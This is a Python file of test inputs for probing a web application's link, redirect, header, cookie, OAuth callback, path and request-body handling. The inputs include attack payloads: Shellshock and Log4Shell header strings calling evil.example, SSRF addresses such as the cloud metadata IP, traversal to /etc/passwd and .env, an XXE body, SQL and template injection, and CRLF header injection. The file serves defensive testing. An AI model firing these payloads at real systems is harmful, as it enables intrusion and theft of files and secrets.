# ruff: noqa: E501
"""Groups U, D, C, O and Q: links and redirects, headers, cookies, callbacks, paths and bodies."""

REFUSED_LINKS = (
    "http://example.org", "HTTP://example.org", "ftp://example.org", "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)",
    "data:text/html,x", "vbscript:x", "file:///etc/passwd", "blob:https://x", "about:blank", "ws://example.org", "gopher://example.org", "view-source:https://x.example",
    "//example.org", "///example.org", "/\\example.org", "\\\\example.org", "https:example.org", "https:/example.org", "https:///example.org", "https://", "https://.",
    "https://user@example.org", "https://user:pass@example.org", "https://spotify.com@evil.example", "https://example.org\\@evil.example",
    "https://127.0.0.1", "https://127.1", "https://2130706433", "https://0x7f000001", "https://0177.0.0.1", "https://[::1]", "https://[::ffff:127.0.0.1]",
    "https://169.254.169.254/latest", "https://[fd00::1]", "https://0", "https://10.0.0.1", "https://localhost", "https://metadata",
    "https://example.org:99999", "https://example.org:-1", "https://example.org:x", "https://exa mple.org", "https://example.org/\nx", "https://example.org/\r\nSet-Cookie:a",
    "https://example.org/<script>", 'https://example.org/"x', "https://ex\u200bample.org", "https://еxample.org", "https://example。org", "https://[", "https://[::1",
    "mailto:", "mailto:x", "mailto:@example.org", "mailto:a@b", "mailto:a@b@c.example", "mailto:a@b.example?bcc=x@y.example", "mailto://a@b.example", "tel:+123", "sms:1",
    "https://example.org/" + "a" * 500, "x" * 100_000, " ", "https://example.org/ x", "%68ttps://example.org", "https%3A//example.org",
)  # fmt: skip

TAKEN_LINKS = (
    "https://example.org", "https://example.org/", "HTTPS://Example.org/Path?x=1&y=<".replace("<", "2"), "https://sub.example.org:8443/a#b", "mailto:me@example.org",
    "https://example.org/%E2%9C%93", "https://xn--bcher-kva.example/",
)  # fmt: skip

NEXT_PATHS = (
    "https://evil.example", "//evil.example", "///evil.example", "////evil.example", "/\\evil.example", "\\\\evil.example", "/\t/evil.example", "/%09/evil.example",
    "javascript:alert(1)", "data:text/html,x", "http:evil.example", "https:/evil.example", "evil.example", "@evil.example", "/..//evil.example", "//evil.example/..",
    "/studio\r\nLocation: //evil.example", "/\x00", "", " ", "/" + "a" * 5000, "/\u2028", "//[::1]", "/;//evil.example", "\x01//evil.example", "/https://evil.example",
)  # fmt: skip

HEADERS = (
    {"Host": ""}, {"Host": "evil.example"}, {"Host": "a b"}, {"Host": "[::1"}, {"Host": "127.0.0.1:99999"}, {"Host": "127.0.0.1, evil.example"}, {"Host": "x" * 5000},
    {"X-Forwarded-For": "evil"}, {"X-Forwarded-For": "127.0.0.1, ::1, x"}, {"X-Forwarded-Host": "evil.example"}, {"X-Forwarded-Proto": "javascript"},
    {"X-Forwarded-Prefix": "//evil.example"}, {"X-Forwarded-Port": "-1"}, {"Forwarded": "for=evil;host=evil.example;proto=gopher"}, {"X-Real-IP": "evil"},
    {"X-HTTP-Method-Override": "DELETE"}, {"X-Original-URL": "/admin"}, {"X-Rewrite-URL": "/admin"},
    {"Range": "bytes=0-"}, {"Range": "bytes=-1"}, {"Range": "bytes=9999999-"}, {"Range": "bytes=0-0,1-1,2-2,3-3"}, {"Range": "lines=1-2"}, {"Range": "x" * 4000},
    {"If-None-Match": "*"}, {"If-None-Match": '"x", W/"y", z'}, {"If-None-Match": "\"" * 3000}, {"If-Modified-Since": "yesterday"}, {"If-Range": "x"}, {"If-Match": "x"},
    {"Accept": "x" * 3000}, {"Accept": "text/html;q=nan"}, {"Accept-Language": "../../x"}, {"Accept-Encoding": "zip-bomb, *;q=0"}, {"Accept-Charset": "x"},
    {"User-Agent": ""}, {"User-Agent": "() { :; }; echo x"}, {"User-Agent": "${jndi:ldap://evil.example/x}"}, {"Referer": "javascript:alert(1)"},
    {"Authorization": "Basic x"}, {"Authorization": "Bearer " + "x" * 3000}, {"Authorization": "Digest a=\"b"}, {"Sec-Fetch-Site": "cross-site"}, {"Sec-Fetch-Mode": "x"},
    {"Origin": "null"}, {"Origin": "https://evil.example"}, {"Access-Control-Request-Method": "POST", "Origin": "https://evil.example"},
    {"Content-Type": "x/y; charset=\"\x7f"}, {"Content-Encoding": "gzip"}, {"Expect": "100-continue"}, {"Upgrade": "websocket"}, {"Purpose": "prefetch"}, {"DNT": "2"},
)  # fmt: skip

COOKIES = (
    "", "x", "=", "a.b.c", ".eJw", "null", "eyJfdXNlcl9pZCI6IjEifQ.x.y", "eyJfdXNlcl9pZCI6IjEifQ", "\"quoted\"", "x" * 4000, "%00", "é", "a;b", "a, b",
    "eyJhbGciOiJub25lIn0.e30.", ".eJyrVkrOz0tLLUotAQAVXQQq.zzzz.zzzz", "../../x", "{{7*7}}", "' OR 1=1 --", "\\x00",
)  # fmt: skip

CALLBACKS = (
    "", "state=", "code=x", "state=x", "state=x&code=y", "state=x&code=", "state=&code=y", "state=x&state=y&code=z", "state=x&code=y&code=z", "error=access_denied",
    "error=access_denied&state=x", "error=server_error&state=x", "error=<script>&state=x", "error=x&code=y&state=z", "state[]=x&code[]=y", "state=%00&code=%00",
    "state=%ff&code=%fe", "state=" + "a" * 5000 + "&code=x", "state=x&code=" + "b" * 5000, "state='%20OR%201=1&code=x", "state=../..&code=x", "state=x;code=y",
    "code=x#state=y", "state=%F0%9F%A6%8A&code=x", "state=x&iss=https://evil.example&code=y", "STATE=x&CODE=y", "state=x&code=y&scope=ugc-image-upload", "?state=x", "&&&&", "=x",
)  # fmt: skip

PATHS = (
    "/%00", "/mara%00", "/mara\x00", "/%ff", "/%c0%af", "/%u0041", "/..", "/../", "/../../etc/passwd", "/%2e%2e/%2e%2e/etc/passwd", "/static/../app/settings.py",
    "/static/%2e%2e/wsgi.py", "/static/..%5cwsgi.py", "/static//etc/passwd", "/static/", "/static", "/static/css", "/.git/config", "/.env", "/wp-login.php", "/server-status",
    "/studio/x.css", "/studio/preview.jpg", "/studio/status.json/x.js", "/studio;x.css", "/studio%2fx.css", "/admin.css", "/admin/x.png", "/login/x.js", "/settings/x.css",
    "/mara.json.css", "/mara.html", "/mara.php", "/mara.", "/mara..json", "/.json", "/mara/", "/mara//", "//mara", "/mara/x/y/z", "/MARA.JSON", "/Mara/Card/x.jpg",
    "/mara/card/.jpg", "/mara/card/../x.jpg", "/mara/card/" + "f" * 3000 + ".jpg", "/mara/card/'.jpg", "/card/x.jpg", "/" + "a" * 5000, "/" + "a/" * 500, "/<script>", "/'", '/"',
    "/{{7*7}}", "/%7B%7B7*7%7D%7D", "/🦊", "/%F0%9F%A6%8A", "/mаra", "/oembed?url=", "/oembed?url=//evil.example", "/oembed?url=javascript:x", "/oembed?url=%00",
    "/oembed?url=http://127.0.0.1:8000/mara&maxwidth=-1", "/oembed?url=x&maxwidth=99999999999999999999", "/oembed?url=x&maxheight=NaN", "/oembed?format=xml&url=x",
    "/mara?x=%ff", "/mara?" + "a=1&" * 2000, "/mara?<script>=1", "/login?next=//evil.example", "/login?next=%00", "/login?again=&again=1", "/email/confirm/x", "/email/leave/%00",
    "/studio/export/x.zip", "/studio/export/%00.zip", "/mara/photo/x.webp", "/admin/actions/x", "/admin/actions/%00", "/readyz/", "/healthz?x=1", "/metrics?token=x", "/csp-report",
)  # fmt: skip

METHODS = ("PUT", "PATCH", "DELETE", "TRACE", "PROPFIND", "CONNECT", "OPTIONS", "get", "X" * 300)

BODIES = (
    (b"", "application/x-www-form-urlencoded"), (b"%", "application/x-www-form-urlencoded"), (b"a" * 300_000, "application/x-www-form-urlencoded"),
    (b"&" * 5000, "application/x-www-form-urlencoded"), (b"=".join([b"x"] * 3000), "application/x-www-form-urlencoded"), (b"\xff\xfe=\x00", "application/x-www-form-urlencoded"),
    (b"{}", "application/json"), (b"[" * 50_000, "application/json"), (b"<x/>", "text/xml"), (b"<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]><x>&y;</x>", "application/xml"),
    (b"x", "multipart/form-data"), (b"x", "multipart/form-data; boundary="), (b"--x\r\n", "multipart/form-data; boundary=x"), (b"x" * 100, "multipart/form-data; boundary=" + "b" * 3000),
    (b"--x\r\n" * 3000, "multipart/form-data; boundary=x"), (b"--x\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n" + b"v" * 300_000 + b"\r\n--x--", "multipart/form-data; boundary=x"),
    (b"--x\r\nContent-Disposition: form-data; name=\"a\"; filename=\"../../x\"\r\n\r\nv\r\n--x--", "multipart/form-data; boundary=x"), (b"\x1f\x8b", "application/gzip"), (b"x", ""), (b"x", "x" * 3000),
)  # fmt: skip
"""What a form may be sent, besides a form."""
